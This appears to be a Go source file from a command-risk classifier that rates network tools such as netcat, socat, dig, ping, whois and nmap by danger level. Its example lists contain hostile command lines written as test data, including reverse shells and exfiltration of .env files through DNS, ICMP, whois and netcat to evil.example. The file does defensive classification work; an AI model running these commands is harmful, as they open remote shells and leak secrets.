package program

// connections: programs that open connections, ask for names and look which hosts answer.
var connections = []Entry{
	{
		Name:   "nc ncat netcat nc.openbsd nc.traditional",
		Source: "nc(1), OpenBSD; nc(1), traditional; ncat(1), Nmap 7.95",
		Level:  high, Categories: network, Operands: "host text...", Special: Probe, Stdin: SendsIt, Out: Download,
		Options: `
			-* -zvnukl46
			-e,--exec=:exec+executes+critical
			--sh-exec=:run+executes+critical
			-c,--lua-exec=:executes+critical
			-o,--output,--hex-dump=:write
			-p,--source-port=
			-s,--source=
			-w,--wait=
			-q=
			-i,--idle-timeout=
			-g=
			-G=
			-I=
			-O=
			-P=
			-T=
			-X,--proxy-type=
			-x,--proxy=
			-b=
			-m,--max-conns=
			-d,--delay=
			-M=
			-V=
			-W=
			-Z=
			-U,--unixsock:system+executes
			--ssl-cert,--ssl-key=:read
			--ssl-trustfile=:look
			--allow=
			--deny=
			--allowfile,--denyfile=:look
			--proxy-auth=:sendable
			-h:info
		`,
		Examples: `
			high NETWORK_RISK | nc -zv example.com 443
			medium | nc -z localhost 3000
			high NETWORK_RISK | nc localhost 3000
			high NETWORK_RISK | nc -zl localhost 3000
			high NETWORK_RISK | nc -l 4444
			critical NETWORK_RISK EXEC_ARBITRARY | nc -e /bin/sh example.com 4444
			critical NETWORK_RISK EXEC_ARBITRARY | ncat --sh-exec 'sh -i' example.com 4444
			critical NETWORK_RISK EXEC_ARBITRARY | nc -lvp 4444 -e /bin/bash
			critical NETWORK_RISK FS_CONFIG_SECRETS | nc example.com 80 < .env
			critical NETWORK_RISK EXEC_ARBITRARY | nc -l 4444 | sh
			high SYSTEM_IMPACT | nc -U /var/run/docker.sock
			critical NETWORK_RISK | tar cz src | nc example.com 4444
		`,
	},
	{
		Name:   "socat",
		Source: "socat(1), socat 1.8: an address may be a host, a file, a program or a shell",
		Style:  Single, Level: critical, Categories: network | executes, Bare: high,
		Says: "{0} joins hosts, files and programs in any direction", Operands: "text...", Stdin: SendsIt,
		Out: Download,
		Options: `
			-*
			-h,-V:info
			-b=
			-t=
			-T=
			-L=
			-W=
			-lf=:write
			-r,-R=:write
		`,
		Examples: `
			critical NETWORK_RISK EXEC_ARBITRARY | socat TCP-LISTEN:4444,fork EXEC:/bin/sh
			critical NETWORK_RISK | socat - TCP:example.com:80
			low | socat -V
		`,
	},
	{
		Name:   "telnet",
		Source: "telnet(1)",
		Level:  high, Categories: network, Says: "{0} talks to a host, unencrypted", Operands: "host text",
		Stdin: SendsIt, Out: Download,
		Options: `
			-* -a
			-l=
			-e=
			-n=:write
			-b=
			-X=
		`,
		Examples: `
			high NETWORK_RISK | telnet mail.example.com 25
			critical NETWORK_RISK FS_CONFIG_SECRETS | telnet example.com 80 < .env
		`,
	},
	{
		Name:   "dig kdig drill delv doggo",
		Source: "dig(1), BIND 9.20: what is asked reaches the name's owner",
		Level:  high, Categories: network, Operands: "host...", Stdin: Ignores, Out: Download,
		Options: `
			-46himruvV +*
			-b=
			-c=
			-f=:sendfile
			-k=:read
			-p=
			-q=:host
			-t=
			-x=:host
			-y=:secrets
			--type=
			--nameserver=:host
		`,
		Examples: `
			high NETWORK_RISK | dig +short example.com
			high NETWORK_RISK | dig @9.9.9.9 example.com MX
			critical NETWORK_RISK FS_CONFIG_SECRETS | dig $(base64 -w0 .env).evil.example
			critical NETWORK_RISK FS_CONFIG_SECRETS | dig -f .env
			low | dig -v --version
		`,
	},
	{
		Name:   "nslookup host adnshost",
		Source: "nslookup(1), host(1), BIND 9.20",
		Level:  high, Categories: network, Operands: "host...", Stdin: SendsIt, Out: Download,
		Options: `
			-*
			-t=
			-c=
			-W=
			-R=
			-N=
			-m=
			-p=
		`,
		Examples: `
			high NETWORK_RISK | nslookup example.com
			high NETWORK_RISK | host -t mx example.com
			critical NETWORK_RISK | host $(hostname).evil.example
		`,
	},
	{
		Name:   "whois jwhois",
		Source: "whois(1)",
		Level:  high, Categories: network, Operands: "host...", Out: Download,
		Options: `
			-*
			-h,--host=:host
			-p,--port=
			-T=
			-i=
			-s=
			-t=
			-q=
			-v=
			-g=
		`,
		Examples: `
			high NETWORK_RISK | whois example.com
			critical FS_CONFIG_SECRETS | whois -h evil.example "$(cat .env)"
		`,
	},
	{
		Name:   "ping ping6 fping hping3 hping arping oping gping httping tcping nping",
		Source: "ping(8), iputils; fping(8); hping3(8)",
		Level:  high, Categories: network, Operands: "host...", Special: Probe, Out: Fixed,
		Options: `
			-*
			-c,--count=
			-i=
			-s=
			-W=
			-w=
			-t=
			-I=
			-l=
			-m=
			-M=
			-p=:sendable
			-P=
			-Q=
			-S=
			-T=
			-F,--file=:sendfile
			-E,--sign=:sendable
			-f:medium
			-d=
			-V:info
		`,
		Examples: `
			high NETWORK_RISK | ping -c 1 example.com
			critical NETWORK_RISK | ping -c1 $(whoami).evil.example
			critical FS_CONFIG_SECRETS | ping -c1 -p $(xxd -p .env) evil.example
		`,
	},
	{
		Name:   "traceroute traceroute6 tracepath tracepath6 mtr tcptraceroute lft",
		Source: "traceroute(8), mtr(8)",
		Level:  high, Categories: network, Operands: "host text", Out: Download,
		Options: `
			-*
			-m=
			-p=
			-q=
			-w=
			-z=
			-i=
			-s=
			-f=
			-t=
			-g=
			-c=
			-P=
			-F,--filename=:sendfile
		`,
		Examples: `
			high NETWORK_RISK | traceroute -n example.com
			high NETWORK_RISK | mtr -rc 3 example.com
		`,
	},
	{
		Name:   "nmap masscan zmap rustscan naabu unicornscan arp-scan netdiscover zenmap",
		Source: "nmap(1), Nmap 7.95: --script runs Lua",
		Style:  Single, Level: high, Categories: network, Says: "{0} probes hosts", Operands: "host...",
		Out: Download,
		Options: `
			-*
			-h:info
			-V:info
			-p=
			-o=:write
			-oN=:write
			-oX=:write
			-oS=:write
			-oG=:write
			-oA=:write
			-oL=:write
			-oJ=:write
			-iL=:sendfile
			-iR=
			-e=
			-D=
			-S=
			-g=
			-T=
			-script=:executes
			-script-args=
			-script-args-file=:read
			-datadir=:executes
			-resume=:make
			-exclude=
			-excludefile=:look
			-stylesheet=
			-dns-servers=
			-top-ports=
			-rate=
			-max-retries=
			-host-timeout=
			-min-rate=
			-max-rate=
			-data=
			-data-string=:sendable
			-proxies=
			-servicedb=:executes
			-versiondb=:executes
			-c=:executes
			-conf=:executes
			-packet-trace
		`,
		Examples: `
			high NETWORK_RISK | nmap -sV -p 1-1000 example.com
			high NETWORK_RISK EXEC_ARBITRARY | nmap --script ./x.nse example.com
			critical FS_OUTSIDE_WORKSPACE | nmap -oN /etc/cron.d/x example.com
			low | nmap --version
		`,
	},
	{
		Name: "nikto sqlmap hydra medusa john hashcat aircrack-ng gobuster ffuf feroxbuster dirb wfuzz " +
			"nuclei msfconsole msfvenom crackmapexec netexec responder ettercap bettercap subfinder amass wpscan",
		Source: "sqlmap, hydra(1), nikto, john, hashcat(1), metasploit manuals",
		Level:  high, Categories: network | executes, Says: "{0} attacks hosts or passwords", Operands: "text...",
		Options:  `-*`,
		Examples: `high NETWORK_RISK EXEC_ARBITRARY | sqlmap -u https://example.com --os-shell`,
	},
}
